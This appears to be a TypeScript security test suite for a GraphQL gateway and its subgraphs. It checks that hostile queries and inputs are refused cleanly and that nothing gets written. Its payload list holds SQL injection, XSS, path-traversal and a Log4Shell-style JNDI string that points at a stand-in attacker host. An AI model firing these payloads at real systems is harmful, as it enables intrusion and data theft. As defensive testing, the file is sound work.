import { startProductionFixture, type ProductionFixture } from './production-fixture';

/** Strings an attacker tries in every argument: SQL, script, path and format tricks. */
const PAYLOADS = [
  "'; DROP TABLE interventions.intervention; --",
  "' OR '1'='1",
  "1980R001' UNION SELECT password FROM pg_shadow --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '%00\u0000null',
  'x'.repeat(100_000),
];

let fixture: ProductionFixture;
let leadership: string;
let analyst: string;

async function post(
  body: string,
  headers: Record<string, string> = {},
  url = fixture.stack.gatewayUrl,
): Promise<Response> {
  return fetch(url, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: `Bearer ${leadership}`,
      ...headers,
    },
    body,
  });
}

/** Refused: an HTTP error status, or GraphQL errors without data, never an internal error. */
async function expectRefused(response: Response): Promise<string> {
  const text = await response.text();
  expect(text).not.toMatch(
    /INTERNAL_SERVER_ERROR|stacktrace|at [\w.]+ \(\/|SELECT |QueryFailedError/,
  );
  if (response.status >= 400) return text;
  const body = JSON.parse(text) as { data?: unknown; errors?: unknown[] };
  expect(body.errors?.length).toBeGreaterThan(0);
  return text;
}

let before: Record<string, number>;

beforeAll(async () => {
  fixture = await startProductionFixture({ RATE_LIMIT_PER_MINUTE: '100000' });
  leadership = await fixture.tokenFor('ks.ordforande');
  analyst = await fixture.tokenFor('analytiker');
  before = await fixture.tableCounts();
});

afterAll(() => fixture?.stop());

describe('hostile operations in production mode', () => {
  it('refuses introspection', async () => {
    const response = await post(JSON.stringify({ query: '{ __schema { types { name } } }' }));
    expect(await expectRefused(response)).toMatch(/introspection/i);
  });

  it('refuses a query 50 levels deep', async () => {
    let selection = 'name';
    for (let depth = 0; depth < 25; depth++)
      selection = `organisation { members { ${selection} } }`;
    const response = await post(JSON.stringify({ query: `{ me { ${selection} } }` }));
    expect(await expectRefused(response)).toMatch(/depth/i);
  });

  it('refuses alias and fragment bombs', async () => {
    const aliases = Array.from({ length: 500 }, (_, i) => `a${i}: kpiSummary { total }`).join(' ');
    await expectRefused(await post(JSON.stringify({ query: `{ ${aliases} }` })));
    const fragments = [
      'query { ...A }',
      'fragment A on Query { ...B ...B ...B ...B }',
      'fragment B on Query { ...C ...C ...C ...C }',
      'fragment C on Query { ...D ...D ...D ...D }',
      'fragment D on Query { districts { code name population populations { year population } } }',
    ].join('\n');
    await expectRefused(await post(JSON.stringify({ query: fragments })));
    const cycle = 'query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }';
    await expectRefused(await post(JSON.stringify({ query: cycle })));
    const tokens = `{ ${Array.from({ length: 5000 }, () => 'council { name }').join(' ')} }`;
    await expectRefused(await post(JSON.stringify({ query: tokens })));
  });

  it('refuses malformed JSON, wrong content types, batches, GET mutations and huge bodies', async () => {
    await expectRefused(await post('{"query": "{ me { name } }"'));
    await expectRefused(
      await post(JSON.stringify({ query: '{ me { name } }' }), { 'content-type': 'text/plain' }),
    );
    await expectRefused(
      await post(JSON.stringify([{ query: '{ me { name } }' }, { query: '{ council { name } }' }])),
    );
    const get = await fetch(
      `${fixture.stack.gatewayUrl}?query=${encodeURIComponent('mutation { publishActionPlan(title: "x", period: "y") { version } }')}`,
      { headers: { authorization: `Bearer ${leadership}`, 'apollo-require-preflight': 'true' } },
    );
    expect(get.status).toBe(405);
    const huge = await post(
      JSON.stringify({ query: '{ me { name } }', variables: { x: 'x'.repeat(17 * 1024 * 1024) } }),
    );
    expect(huge.status).toBe(413);
  });

  it('answers hostile strings in every query argument and filter with an error or nothing, never a failure', async () => {
    const queries: [string, (p: string) => Record<string, unknown>][] = [
      ['query($p: String!) { district(code: $p) { name } }', (p) => ({ p })],
      ['query($p: String!) { organisation(code: $p) { name } }', (p) => ({ p })],
      ['query($p: String!) { indicator(key: $p) { name } }', (p) => ({ p })],
      ['query($p: ID!) { intervention(id: $p) { title } }', (p) => ({ p })],
      [
        'query($p: String!) { series(indicator: "crime_total", districts: [$p]) { municipal { period } } }',
        (p) => ({ p }),
      ],
      [
        'query($p: String!) { series(indicator: "crime_total", from: $p) { municipal { period } } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { situationPicture(period: $p) { synthetic } }', (p) => ({ p })],
      ['query($p: String!) { situationPicture(indicators: [$p]) { synthetic } }', (p) => ({ p })],
      [
        'query($p: String!) { interventions(filter: { search: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      [
        'query($p: String!) { interventions(filter: { owner: $p, district: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      [
        'query($p: ID!) { interventions(filter: { focusArea: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { interventions(after: $p) { totalCount } }', (p) => ({ p })],
      [
        'query($p: String!) { changeLog(filter: { entity: $p, person: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { changeLog(filter: { from: $p }) { totalCount } }', (p) => ({ p })],
      ['query($p: String!) { changeLog(after: $p) { totalCount } }', (p) => ({ p })],
    ];
    for (const [query, variables] of queries) {
      for (const payload of PAYLOADS) {
        const response = await post(JSON.stringify({ query, variables: variables(payload) }));
        const text = await response.text();
        expect(text).not.toMatch(/INTERNAL_SERVER_ERROR|QueryFailedError|syntax error/);
        if (response.status === 200) {
          const body = JSON.parse(text) as {
            data?: Record<string, { totalCount?: number }> | null;
            errors?: { extensions?: { code?: string } }[];
          };
          for (const error of body.errors ?? []) {
            expect(['BAD_USER_INPUT', 'NOT_FOUND']).toContain(error.extensions?.code);
          }
          const count = body.data && Object.values(body.data)[0]?.totalCount;
          if (typeof count === 'number' && query.includes('search')) expect(count).toBe(0);
        } else {
          expect(response.status).toBeLessThan(500);
        }
      }
    }
  });

  it('refuses hostile strings in every text argument of the mutations, and writes nothing', async () => {
    const versionOf = async () => {
      const r = await post(
        JSON.stringify({ query: '{ interventions(first: 1) { edges { node { id version } } } }' }),
      );
      return (
        (await r.json()) as {
          data: { interventions: { edges: { node: { id: string; version: number } }[] } };
        }
      ).data.interventions.edges[0]!.node;
    };
    const target = await versionOf();
    const mutations: [string, (p: string) => Record<string, unknown>][] = [
      [
        'mutation($p: String!) { createIntervention(input: { title: $p, goal: "g", owner: "GSN", startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: $p, startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: "GSN", districts: [$p], startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: "GSN", startDate: $p, endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { updateIntervention(id: $id, expectedVersion: $v, input: { goal: $p }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { addMilestone(interventionId: $id, expectedVersion: $v, milestone: { title: $p, dueDate: "2027-01-01" }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { addProgressReport(interventionId: $id, expectedVersion: $v, report: { status: ONGOING, text: $p }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($p: ID!) { completeMilestone(milestoneId: $p, expectedVersion: 1) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createFocusArea(input: { title: $p, problem: "p", periodStart: "2026-01-01", periodEnd: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { publishActionPlan(title: $p, period: "2026") { version } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { importObservations(format: CSV, content: $p) { ok } }',
        (p) => ({ p }),
      ],
    ];
    // Markup, control characters, unknown codes, bad dates or sizes: each payload is refused
    // with a typed error by leadership; SQL text that would be harmless plain text is sent by an
    // analyst, who may not write at all.
    for (const [mutation, variables] of mutations) {
      for (const payload of PAYLOADS) {
        const sqlOnly =
          !payload.includes('<') && !payload.includes('\u0000') && payload.length < 1000;
        const token = sqlOnly && !mutation.includes('importObservations') ? analyst : leadership;
        const response = await fetch(fixture.stack.gatewayUrl, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
          body: JSON.stringify({ query: mutation, variables: variables(payload) }),
        });
        const text = await response.text();
        expect(text).not.toMatch(/INTERNAL_SERVER_ERROR|QueryFailedError|syntax error/);
        const body = JSON.parse(text) as {
          data?: Record<string, { ok?: boolean } | null> | null;
          errors?: unknown[];
        };
        const result = body.data ? Object.values(body.data)[0] : null;
        // An import answers ok: false with its problems rather than an error.
        if (result && typeof result === 'object' && 'ok' in result) expect(result.ok).toBe(false);
        else expect(body.errors?.length).toBeGreaterThan(0);
      }
    }
    expect(await versionOf()).toEqual(target);
  });

  describe('the findings of the attack on production', () => {
    interface Answer {
      status: number;
      body: {
        data?: Record<string, unknown> | null;
        errors?: {
          message: string;
          path?: (string | number)[];
          extensions?: { code?: string; field?: string };
        }[];
      };
    }
    const send = async (
      url: string,
      query: string,
      variables?: Record<string, unknown>,
      operationName?: string,
      token = leadership,
    ): Promise<Answer> => {
      const response = await post(
        JSON.stringify({ query, variables, operationName }),
        { authorization: `Bearer ${token}` },
        url,
      );
      return { status: response.status, body: (await response.json()) as Answer['body'] };
    };
    const subgraph = (name: string) => fixture.stack.subgraphUrls[name]!;
    const entities = 'query($r: [_Any!]!) { _entities(representations: $r) { __typename } }';
    const codes = (answer: Answer) => (answer.body.errors ?? []).map((e) => e.extensions?.code);
    const alive = async () => {
      for (const url of [fixture.stack.gatewayUrl, ...Object.values(fixture.stack.subgraphUrls)]) {
        expect((await fetch(url.replace(/\/graphql$/, '/healthz'))).status).toBe(200);
      }
    };

    it('answers malformed _entities representations with BAD_USER_INPUT, and every service stays up', async () => {
      // Each bad representation is its own error; the good ones are still answered.
      const directory = await send(subgraph('directory'), entities, {
        r: [
          { __typename: 'Person', id: 'x' },
          { __typename: 'Nope' },
          { __typename: 'Organisation', code: 'GSN' },
        ],
      });
      expect(directory.body.data?._entities).toEqual([null, null, { __typename: 'Organisation' }]);
      const byItem = new Map(
        (directory.body.errors ?? []).map((error) => [error.path?.[1], error]),
      );
      expect(byItem.get(0)?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'id' });
      expect(byItem.get(0)?.message).toMatch(/"x" is not an id/);
      expect(byItem.get(1)?.extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        field: 'representations[1].__typename',
      });
      expect(byItem.get(1)?.message).toMatch(
        /"Nope".*entity type of this service: District, Organisation, Person\./,
      );
      const followUp = await send(subgraph('interventions'), entities, {
        r: [{ __typename: 'FollowUpIndicator', id: 'x' }],
      });
      expect(codes(followUp)).toEqual(['BAD_USER_INPUT']);
      expect(followUp.body.errors?.[0]?.message).toMatch(/not an id/);
      const keyless = await send(subgraph('situation'), entities, {
        r: [{ __typename: 'Indicator' }],
      });
      expect(codes(keyless)).toEqual(['BAD_USER_INPUT']);
      expect(keyless.body.errors?.[0]?.message).toMatch(/needs its key: key/);
      await alive();
    });

    it('refuses a \\u0000 escape in a string literal with HTTP 400, straight to a subgraph and through the gateway', async () => {
      for (const url of [subgraph('situation'), fixture.stack.gatewayUrl]) {
        for (const query of [
          '{ indicator(key: "a\\u0000b") { name } }',
          '{ situationPicture(period: "2026\\u0000") { synthetic } }',
        ]) {
          const answer = await send(url, query);
          expect(answer.status).toBe(400);
          expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
          expect(answer.body.errors?.[0]?.message).toMatch(/NUL/);
        }
      }
      await alive();
    });

    it('refuses NUL in the variables of a GET operation, in every service', async () => {
      const indicator = encodeURIComponent('query($s: String!) { indicator(key: $s) { name } }');
      const search = encodeURIComponent(
        'query($s: String) { interventions(filter: { search: $s }) { totalCount } }',
      );
      const variables = encodeURIComponent(JSON.stringify({ s: 'a\u0000b' }));
      for (const [url, operation] of [
        [fixture.stack.gatewayUrl, search],
        [subgraph('interventions'), search],
        [subgraph('situation'), indicator],
      ] as const) {
        const response = await fetch(`${url}?query=${operation}&variables=${variables}`, {
          headers: { authorization: `Bearer ${leadership}`, 'apollo-require-preflight': 'true' },
        });
        expect(response.status).toBe(400);
        const body = (await response.json()) as Answer['body'];
        expect(body.errors?.map((e) => e.extensions?.code)).toEqual(['BAD_USER_INPUT']);
        expect(body.errors?.[0]?.message).toMatch(/NUL/);
      }
      await alive();
    });

    it('refuses impossible and malformed periods as BAD_USER_INPUT naming the argument', async () => {
      const cases: [string, string, RegExp][] = [
        ['{ situationPicture(period: "0000") { synthetic } }', 'period', /between 1900 and 2100/],
        [
          '{ situationPicture(period: "9999-Q4") { synthetic } }',
          'period',
          /between 1900 and 2100/,
        ],
        [
          '{ series(indicator: "crime_total", from: "0001") { municipal { period } } }',
          'from',
          /between 1900 and 2100/,
        ],
        [
          '{ series(indicator: "crime_total", to: "2026-13") { municipal { period } } }',
          'to',
          /2026-03.*2026-Q1.*2026/,
        ],
        ['{ districts { situation(period: "March") { rate } } }', 'period', /not a period/],
      ];
      for (const [query, field, message] of cases) {
        const answer = await send(fixture.stack.gatewayUrl, query);
        expect(codes(answer)).toContain('BAD_USER_INPUT');
        const error = answer.body.errors?.find((e) => e.extensions?.code === 'BAD_USER_INPUT');
        expect(error?.extensions?.field).toBe(field);
        expect(error?.message).toMatch(message);
      }
      const csv = 'indicator,district,period,value\ncrime_total,1980R001,0000,5\n';
      const imported = await send(
        fixture.stack.gatewayUrl,
        'mutation($c: String!) { importObservations(format: CSV, content: $c) { ok problems { row field message } } }',
        { c: csv },
        undefined,
        analyst,
      );
      const result = imported.body.data?.importObservations as {
        ok: boolean;
        problems: { row: number; field: string; message: string }[];
      };
      expect(result.ok).toBe(false);
      expect(result.problems).toContainEqual({
        row: 2,
        field: 'period',
        message: expect.stringMatching(/between 1900 and 2100/) as unknown as string,
      });
    });

    it('answers a syntax error, an unknown operationName and a subscription with HTTP 400 in every service', async () => {
      for (const url of [fixture.stack.gatewayUrl, ...Object.values(fixture.stack.subgraphUrls)]) {
        const syntax = await send(url, '{ me { name }');
        expect([syntax.status, codes(syntax)]).toEqual([400, ['GRAPHQL_PARSE_FAILED']]);
        const unknown = await send(url, 'query A { __typename }', undefined, 'B');
        expect([unknown.status, codes(unknown)]).toEqual([400, ['OPERATION_RESOLUTION_FAILURE']]);
        const subscription = await send(url, 'subscription { __typename }');
        expect(subscription.status).toBe(400);
        expect(subscription.body.errors?.length).toBeGreaterThan(0);
      }
    });

    it('bounds free text, lists and ids: a 1 MB search is refused before any database work', async () => {
      const started = Date.now();
      const answer = await send(
        fixture.stack.gatewayUrl,
        'query($s: String!) { interventions(filter: { search: $s }) { totalCount } }',
        { s: 'x'.repeat(1_000_000) },
      );
      expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
      expect(answer.body.errors?.[0]?.message).toMatch(/at most 200/);
      expect(Date.now() - started).toBeLessThan(2_000);
      const limits: [string, Record<string, unknown>, string, RegExp][] = [
        [
          'mutation($d: String!) { createIntervention(input: { title: "t", goal: "g", owner: "GSN", description: $d, startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
          { d: 'x'.repeat(10_001) },
          'input.description',
          /input\.description is 10001 characters; at most 10000 are allowed/,
        ],
        [
          'query($i: [String!]) { situationPicture(indicators: $i) { synthetic } }',
          { i: Array.from({ length: 101 }, (_, n) => `k${n}`) },
          'indicators',
          /indicators has 101 items; at most 100 are allowed/,
        ],
        [
          'query($id: ID!) { intervention(id: $id) { title } }',
          { id: "1' OR '1'='1" },
          'id',
          /is not an id/,
        ],
      ];
      for (const [query, variables, field, message] of limits) {
        const refused = await send(fixture.stack.gatewayUrl, query, variables);
        expect(refused.body.errors?.[0]?.extensions).toMatchObject({
          code: 'BAD_USER_INPUT',
          field,
        });
        expect(refused.body.errors?.[0]?.message).toMatch(message);
      }
    });

    it('wrote nothing', async () => {
      expect(await fixture.tableCounts()).toEqual(before);
    });
  });

  it('is still up, with every table as it was', async () => {
    for (const url of [fixture.stack.gatewayUrl, ...Object.values(fixture.stack.subgraphUrls)]) {
      expect((await fetch(url.replace(/\/graphql$/, '/healthz'))).status).toBe(200);
    }
    expect(await fixture.tableCounts()).toEqual(before);
  });
});
